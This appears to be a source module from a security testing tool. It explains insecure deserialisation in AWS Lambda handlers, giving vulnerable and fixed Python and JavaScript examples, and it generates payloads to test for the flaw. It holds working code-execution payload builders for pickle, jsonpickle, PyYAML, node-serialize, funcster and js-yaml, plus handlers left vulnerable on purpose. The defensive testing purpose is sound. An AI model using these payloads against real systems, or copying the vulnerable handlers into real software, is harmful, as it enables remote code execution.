"""An outsider's serialised object runs code when it is read.

## Why it matters
Formats that can hold any object can hold a call of any function: whoever sends the event runs code inside of the
function, with everything that the function holds and may do.

## How it is proved
The object holds a call that computes a product and writes it to a file of its own in /tmp. The file appears although
the function does nothing but read the object.

## Vulnerable
```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Load:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.13
      Handler: app.handler
      Events:
        Call: {Type: HttpApi, Properties: {Path: /load, Method: post}}
```
```python app.py
import base64
import pickle


def handler(event, context):
    session = pickle.loads(base64.b64decode(event["body"]))  # GOAT0163
    return {"statusCode": 200, "body": session["user"]}
```

## Fixed
```python app.py
import base64
import json


def handler(event, context):
    session = json.loads(base64.b64decode(event["body"]))
    return {"statusCode": 200, "body": session["user"]}
```

## Vulnerable in JavaScript
```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Load:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: nodejs20.x
      Handler: index.handler
      Events:
        Call: {Type: HttpApi, Properties: {Path: /load, Method: post}}
```
```javascript index.js
const { unserialize } = require('node-serialize');

exports.handler = async (event) => {
  const { profile } = JSON.parse(event.body);
  const { name } = unserialize(Buffer.from(profile, 'base64').toString()); // GOAT0163
  return { statusCode: 200, body: `Hello ${name}` };
};
```
```javascript node_modules/node-serialize/index.js
const FLAG = '_$$ND_FUNC$$_';

exports.unserialize = (object) => {
  if (typeof object === 'string') object = JSON.parse(object);
  for (const key of Object.keys(object)) {
    const value = object[key];
    if (typeof value === 'object') object[key] = exports.unserialize(value);
    else if (typeof value === 'string' && value.startsWith(FLAG)) object[key] = eval(`(${value.slice(FLAG.length)})`);
  }
  return object;
};
```

## Fixed
```javascript index.js
exports.handler = async (event) => {
  const { profile } = JSON.parse(event.body);
  const { name } = JSON.parse(Buffer.from(profile, 'base64').toString());
  return { statusCode: 200, body: `Hello ${name}` };
};
```

## Remedy
Read what comes from outside with a format that holds data only; where serialised objects must travel, sign them and
check the signature first.

## Remedy in Python
Read JSON with `json.loads`, YAML with `yaml.safe_load`, and nothing with `pickle`.

## Remedy in JavaScript
Read JSON with `JSON.parse`, YAML with js-yaml's `load` in its default schema.

## References
- https://cwe.mitre.org/data/definitions/502.html
- https://docs.python.org/3/library/pickle.html
"""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING

from goatherd.attack.imports import uses
from goatherd.attack.oracles.api import Attack, Opportunity, oracle
from goatherd.attack.payloads.witness import Witness
from goatherd.core.finding import CRITICAL

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from goatherd.attack.trace import Place, Trace

_PLACES = ("pickle", "yaml", "deserialize")
_LIBRARIES = (
    *("pickle", "cPickle", "dill", "jsonpickle", "shelve"),
    *("node-serialize", "js-yaml", "funcster", "serialize-to-js"),
)


def _pickled(witness: Witness) -> Sequence[object]:
    text = f"cbuiltins\nexec\n(V{witness.python}\ntR."
    reduced = {"py/reduce": [{"py/function": "builtins.exec"}, {"py/tuple": [witness.python]}]}
    older = {"py/reduce": [{"py/type": "builtins.exec"}, {"py/tuple": [witness.python]}]}
    return text, reduced, json.dumps(reduced), older, json.dumps(older)


def _yaml(witness: Witness) -> Sequence[object]:
    code = json.dumps(witness.python)
    return (
        f"!!python/object/apply:builtins.exec [{code}]",
        f"\nx: !!python/object/apply:builtins.exec [{code}]\n",
        f"!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [{code}]]]",
    )


def _binary(witness: Witness) -> Sequence[object]:
    """Not text, so that services encode it on the way, for code that looks whether they did."""
    return (b"\x80\x04" + f"cbuiltins\nexec\n(V{witness.python}\ntR.".encode(),)


def _scripts(witness: Witness) -> Sequence[object]:
    """As a field, as the whole document, and as functions that run when the object is used."""
    call = f"function(){{{witness.javascript}}}()"
    function = json.dumps(f"function(){{{witness.javascript}}}")
    node, funcster = f"_$$ND_FUNC$$_{call}", {"__js_function": call}
    used = f"{{toString: &f !!js/function {function}, toJSON: *f, valueOf: *f, then: *f}}"
    documents = json.dumps({"name": node, "other": {"name": node}}), json.dumps({"name": funcster})
    return (node, *documents, funcster, witness.javascript, used, f"? {used}\n: 1\n")


def _encoded(witness: Witness) -> Sequence[object]:
    return [base64.b64encode(each.encode()).decode() for each in _scripts(witness) if isinstance(each, str)]


@oracle("GOAT0163", sas=1, cwe=502, severity=CRITICAL, since="0.2", places=(*_PLACES, "input"))
def object_is_deserialised(opportunity: Opportunity) -> Iterator[Attack]:
    witness = Witness.new(opportunity.marks)
    for value in _payloads(opportunity, witness):
        yield opportunity.attack(value, witness.judge, where=_line)


def _payloads(opportunity: Opportunity, witness: Witness) -> Sequence[object]:
    if opportunity.place == "pickle":
        return _pickled(witness)
    if opportunity.place == "yaml":
        return () if opportunity.note.get("safe") else _yaml(witness)
    if opportunity.place == "deserialize":
        return _scripts(witness)
    if _arrived(opportunity) or not uses(opportunity, _LIBRARIES):
        return ()
    return _binary(witness) if opportunity.language == "python" else _encoded(witness)


def _arrived(opportunity: Opportunity) -> bool:
    """Whether the input's harmless text was seen at one of the other places."""
    return any(opportunity.mark in note["text"] for _, note in opportunity.seed.trace.reached(*_PLACES))


def _line(trace: Trace) -> Place | None:
    """Where the object, which names its file by a mark, was read."""
    return trace.place("", *_PLACES)
